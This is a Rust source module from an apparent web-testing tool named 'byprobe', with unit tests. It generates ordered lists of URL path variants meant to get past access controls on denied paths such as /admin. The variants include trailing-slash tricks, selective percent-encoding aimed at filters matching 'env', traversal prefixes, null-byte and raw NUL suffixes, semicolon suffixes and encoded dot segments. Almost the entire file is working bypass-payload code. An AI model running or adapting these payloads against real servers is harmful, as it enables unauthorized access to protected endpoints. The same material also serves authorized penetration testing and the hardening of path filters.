// File: path_bypass.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - byprobe contributors

//! Path mutation variants for access-control evasion.
//!
//! The stage order below is load-bearing: report entries are indexed by
//! generation order, and downstream tooling relies on the trailing-slash
//! family appearing first.

use crate::codec;

/// Generates the full ordered variant stream for one denied path.
///
/// No deduplication happens here; the orchestrator dedupes on exact string
/// equality while keeping first occurrences in place. Variants are never
/// re-parsed as URLs after mutation.
pub fn variants(path: &str) -> Vec<String> {
    let mut all = Vec::new();
    all.extend(trailing_slash(path));
    all.extend(letter_encoding(path));
    all.extend(codec::generate_case_variations(path));
    all.extend(path_traversal(path));
    all.extend(null_byte_injection(path));
    all.extend(dot_segments(path));
    all.extend(semicolon_bypass(path));
    all.extend(percent_encoded_dots(path));
    all
}

fn trailing_slash(path: &str) -> Vec<String> {
    let mut out = Vec::new();
    if !path.is_empty() && !path.ends_with('/') {
        out.push(format!("{}/", path));
        out.push(format!("{}//", path));
        out.push(format!("{}/.", path));
        out.push(format!("{}/./", path));
    }
    if path.len() > 1 && path.ends_with('/') {
        out.push(path[..path.len() - 1].to_string());
    }
    out
}

/// Percent-encodes only the letters `e`, `n`, `v` (either case), keeping the
/// leading slash intact. Encoding the whole path produced variants the
/// backends rejected outright; this letter subset slips past substring
/// filters on words like "env" while staying routable.
fn letter_encoding(path: &str) -> Vec<String> {
    if path.len() <= 1 {
        return Vec::new();
    }
    let mut encoded = String::with_capacity(path.len());
    for (i, c) in path.char_indices() {
        match c {
            '/' if i == 0 => encoded.push('/'),
            'e' => encoded.push_str("%65"),
            'E' => encoded.push_str("%45"),
            'n' => encoded.push_str("%6e"),
            'N' => encoded.push_str("%4e"),
            'v' => encoded.push_str("%76"),
            'V' => encoded.push_str("%56"),
            other => encoded.push(other),
        }
    }
    if encoded != path {
        vec![encoded]
    } else {
        Vec::new()
    }
}

fn path_traversal(path: &str) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(tail) = path.strip_prefix('/') {
        out.push(format!("/.{}", path));
        out.push(format!("/./{}", tail));
        out.push(format!("/./.{}", path));
        out.push(format!("/../{}", tail));
        out.push(format!("/allowed/..{}", path));
        out.push(format!("/public/..{}", path));
        out.push(format!("/static/..{}", path));
    }
    out
}

fn null_byte_injection(path: &str) -> Vec<String> {
    vec![
        format!("{}%00", path),
        format!("{}%00.jpg", path),
        format!("{}%00.php", path),
        format!("{}%00.html", path),
        // Raw NUL, not the escape sequence. This byte must survive all the
        // way into the serialized request line.
        format!("{}\u{0}", path),
    ]
}

fn dot_segments(path: &str) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(tail) = path.strip_prefix('/') {
        out.push(format!("/.{}", tail));
        out.push(format!("/./{}", tail));
        out.push(format!("/././{}", tail));
        out.push(format!("/../{}", tail));
    }
    out
}

fn semicolon_bypass(path: &str) -> Vec<String> {
    vec![
        format!("{};", path),
        format!("{};/", path),
        format!("{};x", path),
        format!("{};.jpg", path),
    ]
}

/// Single-encoded dot segments only. The double-encoded `%252e` forms
/// matched too many lenient parsers and flooded reports with false
/// positives, so they are gone.
fn percent_encoded_dots(path: &str) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(tail) = path.strip_prefix('/') {
        out.push(format!("/%2e/{}", tail));
        out.push(format!("/%2e%2e/{}", tail));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stream_starts_with_trailing_slash_family() {
        let v = variants("/admin");
        assert_eq!(&v[..4], &["/admin/", "/admin//", "/admin/.", "/admin/./"]);
    }

    #[test]
    fn trailing_slash_is_stripped_when_present() {
        let v = trailing_slash("/admin/");
        assert_eq!(v, vec!["/admin"]);
    }

    #[test]
    fn bare_slash_emits_nothing_from_trailing_stage() {
        assert!(trailing_slash("/").is_empty());
    }

    #[test]
    fn letter_encoding_hits_env_letters_only() {
        assert_eq!(letter_encoding("/env"), vec!["/%65%6e%76"]);
        assert_eq!(letter_encoding("/ENV"), vec!["/%45%4e%56"]);
        // Leading slash stays literal even though '/' is otherwise encodable.
        assert!(letter_encoding("/admin")[0].starts_with('/'));
    }

    #[test]
    fn letter_encoding_skips_paths_without_target_letters() {
        assert!(letter_encoding("/POST").is_empty());
        assert!(letter_encoding("/").is_empty());
    }

    #[test]
    fn traversal_prefixes_for_rooted_paths() {
        let v = path_traversal("/admin");
        assert_eq!(
            v,
            vec![
                "/./admin",
                "/./admin",
                "/././admin",
                "/../admin",
                "/allowed/../admin",
                "/public/../admin",
                "/static/../admin",
            ]
        );
    }

    #[test]
    fn null_byte_stage_includes_raw_nul() {
        let v = null_byte_injection("/admin");
        assert_eq!(v[0], "/admin%00");
        assert_eq!(v[4], "/admin\u{0}");
        assert_eq!(v[4].as_bytes().last(), Some(&0u8));
    }

    #[test]
    fn dot_segment_forms() {
        assert_eq!(
            dot_segments("/admin"),
            vec!["/.admin", "/./admin", "/././admin", "/../admin"]
        );
    }

    #[test]
    fn semicolon_suffixes() {
        assert_eq!(
            semicolon_bypass("/a"),
            vec!["/a;", "/a;/", "/a;x", "/a;.jpg"]
        );
    }

    #[test]
    fn percent_dots_single_encoded_only() {
        let v = percent_encoded_dots("/admin");
        assert_eq!(v, vec!["/%2e/admin", "/%2e%2e/admin"]);
        assert!(!v.iter().any(|s| s.contains("%252e")));
    }

    #[test]
    fn generation_is_deterministic() {
        assert_eq!(variants("/admin"), variants("/admin"));
    }

    #[test]
    fn relative_paths_skip_rooted_stages() {
        let v = variants("admin");
        assert!(!v.iter().any(|s| s.starts_with("/%2e")));
        assert!(v.contains(&"admin%00".to_string()));
    }
}
